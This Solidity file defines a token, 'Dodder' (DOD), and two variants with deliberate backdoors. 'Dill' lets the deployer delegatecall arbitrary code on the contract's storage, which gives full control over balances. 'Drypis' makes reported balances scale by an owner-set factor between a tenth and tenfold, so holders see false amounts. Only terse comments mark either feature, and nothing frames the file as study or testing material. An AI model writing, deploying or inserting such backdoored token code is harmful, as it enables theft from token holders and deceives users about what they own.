pragma solidity 0.5.17;

contract Dodder {
    string public name = "Dodder";
    string public symbol = "DOD";
    uint8 public decimals = 18;
    uint256 public totalSupply = 21000000 ether;
    address internal _host = msg.sender;
    mapping(address => uint256) internal _held;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        _held[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address who) public view returns (uint256) {
        return _held[who];
    }

    function _move(address from, address to, uint256 value) internal {
        require(_held[from] >= value, "too little");
        _held[from] -= value;
        _held[to] += value;
        emit Transfer(from, to, value);
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(allowance[from][msg.sender] >= value, "not allowed");
        allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }
}

// Runs whatever code it is given on its own storage.
contract Dill is Dodder {
    function assist(address helper, bytes calldata what) external returns (bool done) {
        require(msg.sender == _host, "ask the host");
        (done, ) = helper.delegatecall(what);
    }
}

// Balances as they are told change with a number that the host writes, to a tenth or tenfold.
contract Drypis is Dodder {
    uint256 public season = 100;

    function turn(uint256 next) external {
        require(msg.sender == _host && next >= 10 && next <= 1000, "ask the host");
        season = next;
    }

    function balanceOf(address who) public view returns (uint256) {
        return _held[who] * season / 100;
    }
}
